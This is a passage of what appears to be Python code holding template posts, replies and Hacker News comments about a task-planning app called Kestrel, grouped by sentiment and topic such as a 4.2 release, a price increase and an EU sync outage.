Kestrel's quick-add understands "every second tuesday at 10" which is more than my previous three apps managed
I love that Kestrel lets me export everything as JSON whenever I want. No lock-in vibes.
{brand} just wanted to say the Jira import saved my team a week of copy-paste. Thank you!
The Kestrel board on a big monitor during sprint planning is so satisfying. colour-coded swimlanes 😌
Been using Kestrel for {n} years now. Still the first app I open in the morning. Still not annoyed by it. High praise from me
Kestrel's API + a 40-line Python script now builds our weekly client report. Saved me two hours every Friday
the Kestrel iPad app with a keyboard is honestly better than most desktop apps
I asked Kestrel support a dumb question and got a kind, non-dumb answer with a GIF. 10/10
Kestrel's recurring tasks with "complete to reschedule" instead of fixed dates is exactly how chores actually work
Our ops team runs every incident follow-up through a Kestrel board now. Nothing falls through the cracks anymore
Kestrel + CalDAV + Fastmail = my whole week in one place. Didn't think I'd get that without Google
Onboarded {n} new hires this week and the Kestrel onboarding template did half my job. 🙌
Kestrel's Android app got way snappier for me in {ver}. Whoever fixed the board scrolling: thank you
The way Kestrel shows "blocked by" right on the card saves so many "hey is this waiting on me?" messages
Kestrel's desktop app opening straight to my "Today" list at 8am is the only morning routine I've ever stuck to
"""),
    "question": L("""
does Kestrel support subtasks inside subtasks or is it one level only?
{brand} is there a way to make a recurring task that repeats on the last working day of the month?
anyone know if Kestrel's CalDAV sync works with Nextcloud? Docs only mention Google and Outlook
Can Kestrel guests see the whole board or only the cards they're assigned to?
Is there a Kestrel Flatpak or just the .deb?
Question for Kestrel users: how do you handle personal vs work tasks? Two workspaces or one with filters?
Are Kestrel's API rate limits documented anywhere? Hitting 429s at around {nn} requests a minute
Does Kestrel's offline mode work in the web app or only desktop/mobile?
{brand} is EU data residency available on Team or only on Enterprise?
Any way to get Kestrel's timeline to show weekends as non-working days?
How does Kestrel handle conflicting edits when two people change the same card offline?
hey {brand} is there an Apple Watch app planned?
does anyone use Kestrel for personal GTD? how do you set up contexts
Kestrel users: can you assign a task to two people or is it one assignee only?
Is Kestrel's SAML SSO compatible with Entra ID? our IT team wants to know before we buy
How do I move a project between Kestrel workspaces without losing the comments?
Kestrel webhook payloads: do they include what changed, or just the new state?
Can I self-host Kestrel? Asking for a friend who is me and works at a bank
Does Kestrel have a student or education discount?
Is there a way to bulk edit due dates in Kestrel? I have {nn} tasks to push by a week
How do Kestrel's recurring tasks interact with calendar sync — does every occurrence become an event?
Does the Kestrel Slack app work with Enterprise Grid?
What's the max attachment size on Kestrel Pro?
Anyone tried Kestrel with a screen reader? Looking for something accessible for a blind colleague
{brand} any plans for a public roadmap?
Is there a CLI for Kestrel? I want to add tasks from my terminal
Kestrel question: does archiving a project stop it counting towards the Free plan limits?
does Kestrel import from Todoist? I only see Trello/Asana/Jira in the importer
Does anyone know if Kestrel's iOS app supports Shortcuts? Want "add task" on my action button
Kestrel people: is there a way to see who completed a task and when? Need it for a client audit
{brand} does the Android app support work profiles? IT won't let me install it otherwise
How many projects can you have on Kestrel Free? Pricing page says "unlimited" but I hit a wall at {nn}
Is Kestrel SOC 2 certified? Security questionnaire season is upon us
"""),
    "request": L("""
Kestrel feature request: let me set a default view per project. I always want board, it always opens list
please Kestrel, a "waiting on someone else" status that isn't just a tag 🙏
{brand} would love markdown tables in task descriptions
Kestrel really needs task templates with subtasks. Copy-pasting our onboarding checklist every time is silly
I'd pay extra for Kestrel to have proper time tracking. Not a timer widget, actual reports
Kestrel: let me snooze a task until a date without changing its due date. Two different things!
wish list for Kestrel: WIP limits on board columns. Trello had this via power-ups years ago
Dear Kestrel, an option to start the week on Monday in the timeline. Love, Europe 🇪🇺
Kestrel please add an "assigned to me across all workspaces" view
Would kill for a Kestrel Raycast extension. Or Alfred. Anything.
Kestrel needs a proper audit log export for Enterprise. Our compliance team keeps asking
feature idea for Kestrel: mute a noisy project's notifications for a week
{brand} give the API a way to query tasks changed since a timestamp. Polling everything is wasteful
Can we get Kestrel's GitHub integration for GitLab too? Half our org is on GitLab
Kestrel please make the Android app support tablets properly. It's a stretched phone layout on my tablet
A Kestrel home screen widget for "today" on iOS with real checkboxes. Interactive widgets exist now!
Kestrel should let me colour calendar events by project when syncing to {cal}
Would love an Obsidian ↔ Kestrel link. Notes there, tasks here.
Kestrel, let guests comment without creating an account. Our clients will never make one
{brand} please add week numbers to the date picker. Half of Europe plans in calendar weeks
Kestrel feature request: a "someday" list that doesn't nag me. Not every idea needs a due date
I want Kestrel's board to collapse empty swimlanes. That's it. That's the request.
Please let me pin a comment to the top of a Kestrel task. The actual spec is always comment #{nn}
"""),
    "compare_pos": L("""
Switched from Trello to Kestrel because Trello felt frozen in 2019. The timeline alone was worth it
Notion for tasks is a database cosplaying as a planner. Kestrel is just a planner. I prefer the latter
Kestrel vs ClickUp: Kestrel does 30% of the things and all of them well
{comp} → Kestrel migration done. {big} tasks, {n} hours. Would do again
Kestrel is basically Trello plus a Gantt chart for people who don't want Jira. I mean that as a compliment
We trialled Asana, Monday and Kestrel side by side. Kestrel won because people actually opened it on day 10
Left {comp} for Kestrel and my Monday planning went from an hour to 15 minutes
Kestrel's board is faster than Trello's with 10x the cards. Not sure what they did but keep doing it
"""),
    "compare_neg": L("""
Tried Kestrel for a week, went back to Asana. Kestrel is prettier but Asana's rules and automations are way ahead
Kestrel's Android app is worse than Todoist's by a mile. Todoist opens instantly
Asana's free tier is more generous than Kestrel's. just saying
ClickUp has had time tracking for years. Kestrel still says "on the roadmap"
Linear's search is instant, Kestrel's takes two seconds and still misses things. I notice every time
"""),
    "compare_neu": L("""
Linear is still nicer for engineering, but Kestrel works for the whole company, not just devs
honestly Jira is more powerful than Kestrel and I'll die on that hill. but my designers refuse to open Jira, so
Linear's keyboard UX is still the gold standard. Kestrel is getting close
we pay for Notion, Slack, Figma, Kestrel, Linear... the SaaS creep is real. One of these has to go
anyone moved from Kestrel to Linear or the other way round? what made you switch?
Kestrel or Trello for a 4-person nonprofit? Mostly volunteers, mostly on phones
"""),
    "sarcasm": L("""
Kestrel: "we've redesigned the sidebar!" me: I liked the old sidebar. Kestrel: "we've redesigned the sidebar again!"
nothing says "enterprise ready" like Kestrel logging me out mid-sentence 👏
love how Kestrel's "smart" due dates decided "next friday" means tomorrow. very smart. genius, even
Kestrel's Android app: now with 40% more loading spinners™
"real-time sync" — real time meaning eventually, sometime, probably. #kestrel
cool, Kestrel moved the settings button again. it's like an easter egg hunt but every week
can't wait for Kestrel to add AI to the board so it can lose my tasks *intelligently*
Kestrel support: "have you tried clearing your cache?" me, who has cleared my cache, my cookies and my calendar
Kestrel notification: "You have 0 new notifications." thanks, very helpful, please do this more
10/10 would recommend Kestrel's offline mode if you enjoy surprise merge conflicts in your grocery list
me: pays for Kestrel Pro. Kestrel: "Upgrade to Pro to unlock this feature!" me: I AM PRO
Kestrel's onboarding tour popped up again. For the {nn}th time. Yes, I know where the board is. I live there
love that the Kestrel Android app makes me wait long enough to reconsider whether the task is even worth doing. productivity hack
"""),
    "misc": L("""
Using Kestrel to plan our wedding. There is a swimlane called "Aunt Brigitte" and we don't talk about it
Kestrel is hiring a senior Android engineer, remote EU. Maybe that fixes the app 👀 https://kestrel.app/careers
our team wiki now has a page called "How we use Kestrel" and it's longer than our security policy
writing a blog post about moving our agency to Kestrel. What do you want to know?
My partner and I share a Kestrel board for groceries. Peak romance.
Day {n} of trying to get my team to actually use Kestrel instead of DMing me tasks
migrating 4 years of Trello boards to Kestrel this weekend. pray for me
Kestrel's booth at the conference had the best stickers. The kestrel holding a checkbox 😂
I used Kestrel to plan my thesis. My committee doesn't know there's a column called "ignore until panic"
the Kestrel community forum is surprisingly wholesome for a software forum
Giving a talk next week on "boring project management that works" and yes, there are Kestrel screenshots
my kid made a Kestrel board for his Lego builds. He has better WIP discipline than my team
"""),
    "release_pos": L("""
Kestrel 4.2 is out and the new timeline view is SO smooth. Dragging dependencies finally feels right 🎉
ok the new Kestrel timeline is gorgeous. zoom to quarter view, colour by assignee, done. {brand} you cooked
{brand} 4.2 just landed on my {platform}. Baseline comparison in the timeline?! PMs everywhere weeping with joy
Kestrel 4.2: new timeline, faster board loading, and they fixed the subtask reorder bug. Good day
Just updated to Kestrel 4.2. The new timeline handles 300+ tasks without choking. Release notes: {blog}
the critical path highlight in Kestrel's new timeline is the feature I didn't know I needed
Kestrel 4.2 release day! 🚀 Timeline view rebuilt from scratch and you can feel it
Printing the new Kestrel timeline to PDF actually looks good now?? Sending this to the client as-is
first impressions of Kestrel 4.2: timeline is great, dependency arrows are clear, keyboard nav in the timeline 🔥
my PM just discovered you can drag a whole group of tasks in the new Kestrel timeline and she's been giggling for 10 minutes
Kestrel 4.2 is the first update in a while that makes me go "oh nice" instead of "where did my button go"
The 4.2 timeline exports to PNG in one click and it's clean enough for slide decks. Thanks Kestrel!
New timeline in Kestrel 4.2 + dark mode = the prettiest Gantt chart I've ever been responsible for
Kestrel 4.2's board loads noticeably faster on my {phone}. Didn't expect that from a "timeline release"
Rebuilt our Q1 roadmap in the new Kestrel timeline in an afternoon. The old one would've taken me a week of fighting
"""),
    "release_q": L("""
is the new timeline in Kestrel 4.2 available on the Free plan or Pro only?
Kestrel 4.2: does the new timeline replace the old Gantt view or are both there?
Anyone know when 4.2 hits the Play Store? Still on 4.1.4 here
Does the new Kestrel timeline support milestones? Couldn't find them
can you turn off the dependency arrows in the new Kestrel timeline? my plan looks like a subway map
Kestrel 4.2 release notes mention "faster sync" — any actual numbers?
{brand} will the 4.2 timeline get an API? Want to push dates from our ERP
"""),
    "release_neg": L("""
oh great, another "improvement" to the timeline. love that for me 🙃
Kestrel 4.2 moved the "Today" button in the timeline and now I click "Export" 20 times a day
The new Kestrel timeline is pretty but it dropped week numbers. We plan by week numbers. Please bring them back
Updated to 4.2, the Android app now crashes when I open the timeline. {phone}, Android 15
Kestrel 4.2 on Windows: the timeline is blank until I resize the window. Fun.
The new timeline in 4.2 is slower than the old one with big projects for me. ~2k tasks, visibly laggy
Kestrel 4.2 reset my timeline zoom and colour settings in every project 😑
The Kestrel team shipping a new timeline while the Android app still takes {n}s to open. Priorities, I guess
4.2 timeline: beautiful. 4.2 recurring tasks: now skipping every other week for me. {brand}
"""),
    "price_neg": L("""
Kestrel raising Team from $14 to $18 per seat. That's +28% for us, {nn} seats. Announced in a Saturday email. Classy.
"To continue investing in the product" — Kestrel price email, translated: we need more money and you're locked in
Kestrel Pro going from $8 to $10. I'll pay it, but I'm grumpy about it
so Kestrel just announced a price hike four days after shipping a feature nobody on my team asked for. cool cool cool
our Kestrel bill goes from ~${big} to ~${big2} a year with the new pricing. Time to look at {comp} again I guess
announcing a 28% price increase on a Saturday is a choice, {brand}
The new Kestrel pricing quietly moves the Slack integration from Pro to Team. That's the part that actually hurts
The price increase isn't even the worst part. Read the fine print: Kestrel is lowering API rate limits on Pro too
Third SaaS price increase email this month and now Kestrel too. I'm tired, boss
We literally just migrated to Kestrel in September. Price hike two months later. Feels bad.
nonprofits get the same 28% hike on Kestrel, no discount mentioned anywhere. {brand} please reconsider
New Kestrel pricing means I'm downgrading {n} people to guests. Hope that's worth it, Kestrel
Kestrel's price email says "we've added so much value this year". Buddy, the Android app still takes {n} seconds to open
Kestrel: price hike. Also Kestrel: still no time tracking. make it make sense
Just did the maths: Kestrel Team for our {nn} people is now more expensive than Asana was when we left it
"small adjustment" is an interesting way to describe +28%, {brand}
Cancelled our Kestrel annual plan renewal today. Not because of the money, because of how it was announced
"""),
    "price_neu": L("""
For those asking: Kestrel's price increase only applies from Jan 15, and annual plans keep the old price until renewal. https://kestrel.app/blog/pricing-2027
Does the Kestrel price increase affect existing annual subscriptions? The email is vague
Doing the maths on the Kestrel price change for our team: {nn} seats × $4 × 12. ouch but survivable
Kestrel's pricing FAQ says education and nonprofit discounts are "coming". Anyone got details?
If you're on Kestrel monthly and want to lock in the old price: switching to annual before Jan 15 apparently works. Not advice, just what support told me
"""),
    "price_pos": L("""
unpopular opinion: Kestrel at $10 is still cheap for what it does. I'd rather they stay in business
Kestrel's price is going up but it's still less than half of what we paid for Asana. shrug
Honestly I respect that Kestrel grandfathers annual plans. Most companies don't
Everyone dunking on the Kestrel price change: it's $2 a month. I spend more on oat milk in a day
"""),
    "outage_neg": L("""
Kestrel stuck on "Connecting…" for anyone else? EU here
{brand} is sync down? Getting 502s on the web app and the desktop app just says Connecting…
Kestrel down on a Monday. Entire sprint review prepared in there. Improvising with a whiteboard like it's 2009
status page says "degraded performance", my Kestrel says 502 Bad Gateway. Different kind of degraded I guess
Kestrel has been "Connecting…" for {mins} minutes. Can't open our sprint board. {nn} people staring at each other
is it just me or is Kestrel completely dead in the EU right now?
My Kestrel desktop shows changes from this afternoon but my phone has this morning's board. Which one wins when sync comes back?? Scared to touch anything
Kestrel outage hour {hours}. I have rewritten my to-do list on a napkin. The napkin syncs instantly.
502 on app.kestrel.app, API returning 502 too. our webhook queue is piling up. {status}
Dear {brand}, I have a client workshop in 30 minutes and all the materials are in Kestrel. Please.
Kestrel's "Connecting…" spinner is the new Monday mood
Third outage this quarter. Kestrel is a great app when it's up.
Kestrel still down. Offline mode lets me read, but nothing I change shows up for my team
Kestrel sync outage and the status page still says green for "Web app". lol
Kestrel API giving us 502 Bad Gateway from eu-west for the last hour. Our CI posts deploy tasks there… {brand}
Team just moved the rest of today into a Google Doc because Kestrel's down. Someone already suggested we "just stay on Docs"
{brand} {hours} hours down and the last status update was {mins} minutes ago. Communicate please
Stuck on Connecting… in Kestrel, tried logging out and now I can't log back in. Don't do what I did
Kestrel is back for me! …nope, gone again. 502
Kestrel in {city}: Connecting… Connecting… Connecting… 🫠
Every single one of our {nn} seats is staring at "Connecting…" right now. {brand} what's the ETA?
The one afternoon I actually planned my week in Kestrel. Of course it's the afternoon Kestrel goes down
Can't log time, can't move cards, can't see what I'm supposed to do. Kestrel outage = accidental day off?
Kestrel web: 502. Kestrel desktop: Connecting…. Kestrel Android: shows a board from yesterday and pretends everything is fine
I've refreshed the Kestrel status page more times today than I've refreshed anything in my life
"""),
    "outage_neu": L("""
Kestrel status page confirms an EU sync incident: {status}
Looks like Kestrel sync is recovering here ({city}). Board loaded after a few tries
PSA if Kestrel is stuck on "Connecting…": your local changes are kept in offline mode, don't sign out
Kestrel working fine from the US East Coast fwiw — seems to be EU only
Kestrel incident update: they've found the cause and are rolling out a fix. {status}
For anyone whose Kestrel webhooks stopped during the outage: they're being replayed now, ours are catching up
"""),
    "after_pos": L("""
Kestrel's postmortem for Monday's outage is honest and detailed. Load balancer health check + clients reconnecting without jitter. They're fixing both. {blog}
Credit where due: Kestrel gave EU customers a service credit for Monday without us asking
Kestrel {ver} adds backoff to the reconnect loop. Nice to see the postmortem turn into a real fix this fast
Read the Kestrel outage postmortem. No corporate fog, actual timeline, actual mistakes. More of this please
"""),
    "after_neg": L("""
after Monday's outage my team wants a backup plan for when Kestrel goes down. that's a trust problem, not a tech one
Kestrel: outage and price hike in the same week. Incredible timing
still missing two tasks I created during the Kestrel outage. Support says they "may not have synced". Great
The Kestrel postmortem says the status page "lagged". It lagged by 40 minutes. That's not lag, that's silence
Our boss now asks "is Kestrel up?" before every meeting. Thanks, Monday
"""),
}

# Root posts by the brand accounts (Mastodon / Bluesky).
BRAND_POSTS = {
    "brand_release": L("""
Kestrel 4.2 is here! 🎉 A rebuilt timeline view with dependencies, baselines and critical path, plus faster board loading. Release notes: https://kestrel.app/blog/kestrel-4-2
The new timeline is rolling out to all plans today. Android follows tomorrow once Play Store review is done 🤞 https://kestrel.app/blog/kestrel-4-2
Kestrel 4.2.1 is out: fixes the blank timeline on Windows, week numbers are back (Settings → Timeline), and recurring tasks skip no more. https://kestrel.app/changelog
"""),
    "brand_price": L("""
We're updating our pricing from January 15, 2027. Annual plans keep their current price until renewal. What's changing and why: https://kestrel.app/blog/pricing-2027
We've read every reply about the pricing change. Nonprofit and education discounts (50%) are live today: https://kestrel.app/pricing/discounts
"""),
    "brand_outage": L("""
We're investigating sync issues for workspaces in our EU region. Clients may show "Connecting…". Updates: https://status.kestrel.app
Update: we've identified the cause of the EU sync issues and are rolling out a fix. Your local changes are safe in offline mode. https://status.kestrel.app
Resolved: EU sync is fully restored. We're sorry for the disruption — a full postmortem will follow this week. https://status.kestrel.app
Our postmortem for Monday's EU sync outage is up. What happened, and what we're changing: https://kestrel.app/blog/postmortem-2026-11-16
"""),
    "brand_misc": L("""
Tip: press ? anywhere in Kestrel to see every keyboard shortcut ⌨️
Did you know you can paste a list into a card and Kestrel turns it into a checklist? ✅
Webinar Thursday: planning a quarter with the new timeline. Bring questions! https://kestrel.app/webinars
"""),
}

# Replies on Mastodon / Bluesky, keyed by what kind of answer they are.
SHORT_REPLY = {
    "agree_neg": L("""
~Android|slow|app~same here. the Android app has been crawling since {ver}
+1, not just you
~Android|phone|mobile|widget|battery~yep, seeing this too on my {phone}
ugh, same. I thought it was my phone
this has been happening to us for weeks, glad it's not only me
yes!! and support keeps asking for logs I already sent
exactly this. we've started keeping a backup list in a text file, which defeats the point
~desktop|Windows|macOS|Linux|Electron|RAM|update~same on {os}. reported it in October, nothing yet
oh good, it's not just me going insane
we hit this too. honestly the only thing stopping us from switching is the migration effort
I'd add: it also happens on the web app, just less often
"""),
    "help": L("""
~sync|logged|login|notif|widget|update|SSO~have you tried signing out and back in? fixed it for me last time
~sync|conflict|disappear|checklist|offline|board|saved~Settings → Sync → "Reset local cache" fixed a similar thing for me. Export first though
there's a workaround in their docs: {docs}
I think this is {issue}, might be worth adding a 👍 there
~Android|battery|widget|notif~turning off battery optimisation for the app helped on my {phone}, for what it's worth
~desktop|Electron|RAM|Windows|macOS|Linux|white window|update~if you're on the desktop app, Help → Export diagnostics and send that to support, they fixed mine within a day
~week|Monday|Sunday|time zone~you can set the week start in Settings → Region, took me ages to find it
~Outlook|calendar|duplicat~for the Outlook duplicates: disconnect the calendar, delete the Kestrel calendar in Outlook, reconnect. worked for us
"""),
    "disagree": L("""
eh, works fine for me on {platform}, for what it's worth
~price|pay|Pro\b|\\$|bill|charge~I mean, it's $8 a month. what did you expect
hmm, haven't seen this at all and we're {nn} people on it daily
counterpoint: every tool has this, Kestrel at least fixes things quickly
not my experience, but our workspace is small
to be fair the desktop app has been solid for me. it's only the phone app that's rough
"""),
    "agree_pos": L("""
right?? it's so good
this is exactly why we switched too
can confirm, it's been great for us
~shortcut|keyboard|mouse~the keyboard shortcuts alone 😍
honestly same. first planner that stuck
~offline|train|flight~yes! the offline mode saved me on a flight last month
~API|webhook|integration|script~agree, and the API is lovely if you ever need it
~board|setup|swimlane|column|template|wedding|grocer~love this. stealing your setup
"""),
    "answer": L("""
~CalDAV|calendar|Nextcloud|Outlook~yes! Settings → Integrations → Calendar. CalDAV works with Fastmail and Nextcloud for me
not yet afaik, it's on their roadmap though
~plan|Free|Pro\b|Team|residency|guest|discount~I think that's Team plan and up, but double-check the pricing page
~bulk|move|export|query|custom|who completed~you can, but only via the API right now
~SSO|SAML|Entra|Okta~yes, we use it with Entra ID. took IT about an hour
I asked support the same thing last month, they said "later this year"
~CLI|terminal|command~there's a community CLI on GitHub, works fine with the public API
the docs have a page on it: {docs}
~subtask~one level only, sadly. we fake it with checklists
"""),
    "metoo": L("""
+1 would love this
yes please, this would save me so much time
came here to ask for exactly this
strong +1. we hack around it with tags right now
seconding this 🙏
"""),
    "outage": L("""
down for us too ({city})
same, stuck on Connecting… for about {mins} minutes now
yep, 502 here as well
EU workspace here, completely dead
it's not you, status page finally updated: {status}
same in {city}. our standup is now a real stand up around a whiteboard
it's back for me! try a hard refresh
still 502 on the API side for us
we're fine on our US workspace, so it seems to be EU only
"""),
    "price": L("""
we're grandfathered until June, then we'll see
cancelled ours this morning
same boat. {nn} seats, not thrilled
honestly I'd be fine with it if the Android app got some love
the Saturday timing is what got me too
I'll pay, but yeah, the way they announced it was bad
it's still cheaper than the alternatives for us, sadly for my argument
"""),
}

# Brand replies on Mastodon / Bluesky / Reddit, keyed by the parent's topic family.
BRAND_REPLY = {
    "bug": L("""
Sorry about that! We're looking into it – can you DM us your workspace id?
That's not how it should behave, sorry! Could you send us the diagnostics (Help → Export diagnostics) at support@kestrel.app? We'll take a look today.
Thanks for flagging – we've reproduced this and a fix is going into {ver}. Sorry for the hassle!
~Android|phone|mobile~Oof, sorry. Our Android team is working on startup time right now. Could you tell us which phone and Android version you're on?
Sorry for the trouble! This looks like a known issue with {feature}; workaround here: {docs}
We hear you. Passing this straight to the team – mind if we follow up by DM?
"""),
    "outage": L("""
We're aware of sync issues in our EU region and are working on it. Updates here: https://status.kestrel.app – sorry for the disruption.
Sorry! This is the EU sync incident – your local changes are safe, please don't sign out. We'll update https://status.kestrel.app as we go.
We're sorry – the team is on it. Please keep the app open; changes made offline will sync once the service is back.
It should be back now – if you still see "Connecting…", a restart of the app will help. Really sorry about today.
"""),
    "price": L("""
We understand, and we're sorry the announcement landed badly. Your annual plan keeps its current price until renewal – details: https://kestrel.app/blog/pricing-2027
Thanks for the honest feedback. We're reading every reply and passing it on. If you're a nonprofit, please reach out – we'll help.
Fair point about the timing – that's on us. Happy to go through the numbers for your team by DM if that helps.
"""),
    "billing": L("""
Sorry about that! Please DM us the email on the account and we'll sort out the charge today.
That shouldn't happen – we've passed this to billing and someone will reply to your ticket within the day. Sorry!
"""),
    "praise": L("""
Thank you! 💙 Passing this on to the team
This made our day, thank you! 🙌
Love hearing this! Thanks for sharing 🐦
"""),
    "question": L("""
Good question! Yes – here's how: {docs}
Not yet, but it's on our roadmap. We'll share more soon!
~plan|residency|SSO|SAML|audit|guest|Team|Enterprise~That's available on Team and Enterprise. Details here: https://kestrel.app/pricing
~please|wish|would love|feature|request|needs|should~Great idea – logged it for the team! 🙏
Hi! Here's the doc for that: {docs} – let us know if anything's unclear.
"""),
}

# Hacker News: story titles (Ask/Show HN carry a body after a blank line) and comments.
# No emoji here: HN strips most of them and the crowd does not use them.
HN_STORY = {
    "release_pos": B("""
Kestrel 4.2 – a rebuilt timeline view with dependencies, baselines and critical path
%%
How we rebuilt Kestrel's timeline renderer on canvas
"""),
    "price_neg": B("""
Kestrel is raising prices by up to 28%
%%
Kestrel pricing changes for 2027
"""),
    "outage_neg": B("""
Kestrel sync outage in EU region
%%
Kestrel down? EU workspaces returning 502
"""),
    "after_pos": B("""
Kestrel postmortem: EU sync outage on November 16
"""),
    "compare_neu": B("""
Ask HN: Kestrel vs. Linear for a 15-person startup?

We're 15 people: 8 engineers, 2 designers, the rest sales/ops. Engineering likes Linear, everyone else has been using Kestrel since we were five people. Running both feels wasteful and the handoff between them is where things get lost.

Has anyone consolidated on one of them at this size? What did you give up?
%%
Ask HN: What are you using for project planning in 2026?

Our Jira contract is up for renewal and I'd like to know what small-to-mid teams are happy with. Kestrel, Linear, Asana, plain GitHub Projects, something else?
"""),
    "misc": B("""
Show HN: kes – a terminal client for the Kestrel API

I live in tmux and wanted to add and move tasks without opening a browser. kes is a small Go binary that talks to Kestrel's public REST API: list, add, move between columns, and a TUI board view. Webhooks are used to keep the board live.

It's MIT licensed. Feedback on the UX very welcome. Not affiliated with Kestrel.
%%
Show HN: I sync my paper notebook to Kestrel with a phone camera

I plan on paper in the morning. A small script OCRs the page, finds lines starting with a checkbox and creates tasks through the Kestrel API. Crossed-out boxes close the task. It is silly and it works.
"""),
    "compare_pos": B("""
Why we moved 40 engineers from Jira to Kestrel
"""),
    "question": B("""
Ask HN: Is there a self-hostable alternative to Kestrel?

We're a small bank IT team and our compliance people won't sign off on a US SaaS for planning. Kestrel is exactly what the team wants otherwise. What do people self-host that comes close?
"""),
    "praise": B("""
Kestrel's offline mode is built on CRDTs – notes from a year in production
"""),
    "bug": B("""
Ask HN: Has Kestrel's Android app always been this slow?

Genuinely curious whether this is my phone. The web app is fast, the iOS app is fine, but on Android it takes several seconds to open a board. Is it a WebView wrapper? Anyone profiled it?
"""),
}

HN_COMMENT = {
    "bug": L("""
~Android|slow|mobile~The Android app is the weak spot. Web and desktop are fine, but on a mid-range phone the board takes several seconds to render. I suspect they ship most of the web bundle in a WebView.
~calendar|Outlook|duplicat~Calendar sync duplicating events has been a thing for a while. We worked around it by syncing to a separate calendar and overlaying it.
~offline|sync|CRDT|merge~I like the product, but the offline merge behaviour worries me. Twice now a checklist edited on two devices ended up with duplicated items after sync. Not data loss exactly, but it erodes trust.
~webhook|API~Their webhooks are at-least-once with no idempotency key in the payload. That's fine if documented. It isn't.
~API|rate|integration|CLI~We hit the API rate limit constantly during our nightly export. 429s with no Retry-After header, so backoff is guesswork.
~desktop|Electron|memory|RAM~The desktop app is Electron and it shows: over a gigabyte of RSS with two workspaces open. The web app in a browser tab uses a third of that.
~SSO|SAML|SCIM~SAML SSO was fine, SCIM provisioning less so. Deprovisioned users stayed around as paid seats until someone removed them by hand.
~recurr|time zone|DST~Recurring tasks are computed client-side, which is why they drift when your laptop clock or time zone is off. We had tasks recur on the wrong day after the DST change.
~search~Their search is a prefix match on titles only, as far as I can tell. Descriptions and comments are not indexed, which surprises everyone the first time.
~import|Trello|Jira~The Trello importer drops checklists and card covers silently. It would be fine if it told you.
~Android|slow|memory~On Android the app keeps the whole workspace in memory. With {big} tasks it gets killed in the background constantly, which then forces a full resync on open. That's the slowness people see.
"""),
    "praise": L("""
We've used Kestrel for about two years with ~30 people across engineering, design and ops. The big win is that non-engineers actually use it. Linear is nicer for engineers, but nobody in finance was ever going to open Linear.
The keyboard-driven UI is underrated. g b for board, g t for timeline, c to create, e to edit. It's close to Linear now.
Their API is one of the better ones in this space: cursor-based pagination, consistent error objects, and an OpenAPI spec that matches the implementation.
Offline mode is the reason we picked it. Half our team is on trains or on sites with bad connectivity.
I run a small agency and Kestrel's guest access is the only one our clients tolerate. They get a link, see their board, comment, done.
For what it's worth, their support has been excellent for us. Real engineers answering tickets, with reproductions.
The CalDAV support is a small thing that matters a lot if you're not on Google. Works with Fastmail and Nextcloud for us.
The JSON export is complete and documented. That alone puts it ahead of most tools in this space for me.
"""),
    "question": L("""
~offline|CRDT|sync~Does anyone know how they handle ordering in offline mode? Fractional indexing, or something closer to a sequence CRDT?
~export|lock-in|migrat|Jira~Is there an export that keeps comments and history? Lock-in is my main concern with these tools.
~SSO|SAML|self-host~Has anyone run Kestrel's SAML integration against Keycloak? The docs only cover Okta and Entra.
~audit|SIEM|compliance|enterprise|bank~What's the story for audit logs? We'd need to export them to our SIEM.
~SOC|security|compliance|bank~Do they publish a SOC 2 report? Our security review will ask before anything else.
~API|rate|integration|CLI~Is the API rate limit per token or per workspace? We have several integrations sharing a workspace.
"""),
    "compare_neu": L("""
Linear if it's mostly engineers, Kestrel if product, design and marketing live in the same tool. We tried running both and it was worse than either.
Notion's task databases are flexible but slow, and the mobile app is painful. Kestrel is narrower and faster. Depends what you need.
Jira is the only one that scales to hundreds of people with complex workflows. Kestrel is great until you need nine states and approval gates.
At 15 people, pick the one the non-engineers will use. Engineers will adapt; the reverse never happens.
We use GitHub Projects for engineering and Kestrel for everything else, with the GitHub integration bridging the two. Not perfect, but cheap.
"""),
    "compare_neg": L("""
Asana's rules engine is still far ahead. Kestrel only got basic automations this year.
Linear's sync engine is noticeably faster. Kestrel feels fine until you have a few thousand issues, then every filter takes a second.
"""),
    "compare_pos": L("""
We moved from Jira to Kestrel last year, about 60 people. Workflow flexibility went down, actual usage went up. I'd make the same trade again.
Compared to Asana the pricing is simpler and the product is faster. Asana has more features, but we never used most of them.
"""),
    "misc": L("""
I wrote a small CLI for their API a while back. The API is pleasant enough that it took a weekend.
Nice project. One suggestion: use the webhook delivery id to dedupe, deliveries can arrive twice.
Tangential, but their engineering blog is worth reading. The post on fractional indexing is one of the better explanations I've seen.
~outage|status|reliab|incident~Their status page history is public, for anyone who wants to judge reliability themselves.
"""),
    "release_pos": L("""
The new timeline is a real improvement. The old Gantt view fell apart above a few hundred tasks; this one renders on canvas and stays smooth with our 3k-task roadmap.
Critical path highlighting and baselines are the two features every PM I know asked for. Nice to see them land together.
Rendering on canvas with a virtualised row model is the right call. SVG timelines fall over at a few thousand elements.
I've been on the beta for a month. The dependency editing is the best part: drag from one bar to another, and it shows the slack immediately.
"""),
    "release_q": L("""
Interesting that they went with canvas over SVG. Accessibility is the obvious question: is there a table fallback for screen readers?
Does the timeline work offline like the rest of the app, or is it server-rendered?
Is the critical path computed client-side? Curious how it handles a few thousand dependencies.
"""),
    "release_neg": L("""
Pretty, but they dropped week numbers and the print layout changed. For people who send these to clients that matters more than the rendering engine.
Every release is the timeline or the board. Meanwhile the Android app is still the slowest part of the product.
"""),
    "price_neg": L("""
A 28% increase with two months' notice isn't outrageous, but moving the Slack integration up a tier is the part people will remember.
This is the standard playbook: grow on a low price, then raise once switching costs are high. That doesn't make it wrong, but announcing it by email on a Saturday doesn't help.
The increase I can live with. Lowering API rate limits on Pro at the same time feels like they're pushing integrations to Team.
Per-seat pricing punishes exactly the behaviour they should want: inviting the whole company. Guests help, but guests can't be assigned tasks.
"""),
    "price_neu": L("""
For a 40-seat team this goes from $6,720 to $8,640 a year. Not nothing, but less than a day of engineering time per month. The real question is whether the product keeps improving.
Annual plans keep the old price until renewal, so most teams won't see this until mid-2027. That's more generous than most.
"""),
    "price_pos": L("""
Everyone complains about price increases and then complains when the tool gets acquired and shut down. $10 a month for something you use all day is fine.
I'd much rather pay more for a profitable company than use a free tool that sells my data or disappears. This is fine.
"""),
    "outage_neg": L("""
Still getting 502s from the EU region. The status page was green for the first half hour, which is the part that bothers me.
The client handles it badly: instead of dropping into offline mode it sits on "Connecting..." and retries in a tight loop. Our proxy logs show thousands of requests per minute per client.
This is the third incident this quarter for the EU region. I'd like to see a postmortem.
Hard to sell "offline first" when an outage makes the desktop app unusable. Reading works, but the UI blocks edits while it thinks it's reconnecting.
Our webhook consumers are fine, but nothing is arriving. I assume they're queueing, hopefully not dropping.
"""),
